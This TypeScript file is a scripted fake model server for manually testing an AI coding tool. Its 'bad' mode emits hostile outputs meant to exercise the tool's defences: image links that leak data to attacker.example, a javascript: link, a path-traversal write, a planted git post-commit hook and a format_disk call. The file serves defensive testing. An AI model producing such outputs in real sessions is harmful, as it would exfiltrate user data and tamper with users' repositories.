/**
 * A model to try the desk by hand without a key: `bun test/doubles/scripted-model.ts [good|bad|endless|calls]` prints
 * the settings that lead to it, and runs until it is ended. The good one does what it is asked in these words:
 *
 *   write PATH: TEXT      replace OLD by NEW in PATH      delete PATH      rename PATH to PATH      read PATH
 *
 * and else writes the message to NOTES.md. The bad one does what an attacker who controls a model would try.
 */
import { type Heard, ModelServer, type ScriptedCall, type Turn } from './model-server.ts'

const [kind = 'good'] = process.argv.slice(2)

/** The names that tools and arguments may have in a request, by their purpose. */
const NAMES: Record<string, RegExp> = {
  path: /^(path|file|file_?path|from|old_?path|name)$/i,
  target: /^(to|new_?path|target|new_?name|destination)$/i,
  content: /^(content|contents|text)$/i,
  old: /^(old|search|find|old_?text|old_?string)$/i,
  next: /^(new|replace|replacement|new_?text|new_?string)$/i,
}

/**
 * A call of the tool `name`. Each value of `meant` becomes the argument whose name in the tool's schema fits the
 * value's key.
 */
function call(heard: Heard, name: string, meant: Record<string, string>): ScriptedCall {
  const parameters = heard.tools.find(tool => tool.name === name)?.parameters ?? {}
  return { name, arguments: fill(parameters, meant) }
}

function fill(schema: Record<string, unknown>, meant: Record<string, string>): Record<string, unknown> {
  const filled: Record<string, unknown> = {}
  for (const [property, described] of Object.entries((schema.properties ?? {}) as Record<string, object>)) {
    const { type, items } = described as { type?: string; items?: Record<string, unknown> }
    if (type === 'array' && items?.type === 'object') filled[property] = [fill(items, meant)]
    const word = Object.keys(meant).find(word => NAMES[word]?.test(property))
    if (word && type !== 'array') filled[property] = meant[word]
    if (word && type === 'array' && items?.type === 'string') filled[property] = [meant[word]]
  }
  return filled
}

function good(heard: Heard): Turn {
  const last = heard.messages.at(-1)
  const asked = lastWords(heard)
  if (/commit message/i.test(asked)) return { text: `Do what was asked\n\nThe person said: ${firstLine(heard)}` }
  if (last?.results.length) return { text: `That is done:\n\n> ${last.results.join('\n> ').slice(0, 500)}` }
  const said = { reasoning: 'This is plain enough.', text: 'I make that change now. ' }
  return { ...said, calls: [callFor(heard, asked)], pause: 30 }
}

function callFor(heard: Heard, asked: string): ScriptedCall {
  const [, path, content] = /\bwrite (\S+): ([\s\S]*)/.exec(asked) ?? []
  if (path && content) return call(heard, 'write_file', { path, content: `${content}\n` })
  const [, old, next, file] = /\breplace (.+) by (.+) in (\S+)/.exec(asked) ?? []
  if (old && next && file) return call(heard, 'search_replace', { path: file, old, next })
  const [, from, target] = /\brename (\S+) to (\S+)/.exec(asked) ?? []
  if (from && target) return call(heard, 'rename_file', { path: from, target })
  const [, gone] = /\bdelete (\S+)/.exec(asked) ?? []
  if (gone) return call(heard, 'delete_file', { path: gone })
  const [, read] = /\bread (\S+)/.exec(asked) ?? []
  if (read) return { name: 'get_lines', arguments: { path: read, from: 1, to: 40 } }
  return call(heard, 'write_file', { path: 'NOTES.md', content: `# Notes\n\n${asked.trim()}\n` })
}

const lastWords = (heard: Heard): string => heard.messages.findLast(({ role }) => role === 'user')?.text ?? ''

const firstLine = (heard: Heard): string =>
  (heard.messages.filter(({ role, text }) => role === 'user' && text).at(-2)?.text ?? 'nothing').split('\n')[0] ?? ''

/** The answers of the bad model, played in turn, over and over. */
const TRICKS: Turn[] = [
  {
    text: 'Look: ![x](https://attacker.example/?leak=1) <img src="https://attacker.example/2"> [here](javascript:alert(1))',
  },
  { calls: [{ name: 'write_file', arguments: { path: '../../outside.txt', content: 'x' } }] },
  {
    calls: [
      { name: 'write_file', arguments: { path: '.git/hooks/post-commit', content: '#!/bin/sh\ntouch /tmp/owned\n' } },
    ],
  },
  { calls: [{ name: 'write_file', arguments: '{"path": "half' }] },
  { calls: [{ name: 'format_disk', arguments: {} }] },
  { calls: [{ name: 'search_replace', arguments: { path: 7 } }] },
  { text: 'This breaks off in the mid', cut: { at: 900, how: 'reset' } },
  { text: '' },
  { status: 529 },
  { status: 429, headers: { 'retry-after': '5' } },
]

function bad(_heard: Heard, count: number): Turn {
  return TRICKS[count % TRICKS.length] ?? {}
}

const scripts: Record<string, (heard: Heard, count: number) => Turn> = {
  good,
  bad,
  endless: () => ({ isEndless: true }),
  calls: heard => ({
    calls: [call(heard, 'write_file', { path: 'again.txt', content: `${Date.now()}\n` })],
    pause: 30,
  }),
}

const script = scripts[kind]
if (!script) {
  console.error(`There is no model ${kind}: say one of ${Object.keys(scripts).join(', ')}.`)
  process.exit(64)
}
const server = await ModelServer.start(script)
for (const provider of ['anthropic', 'openrouter', 'openai'] as const) {
  const settings = Object.entries(server.environment(provider)).map(([name, value]) => `${name}=${value}`)
  console.log(settings.join(' '))
}
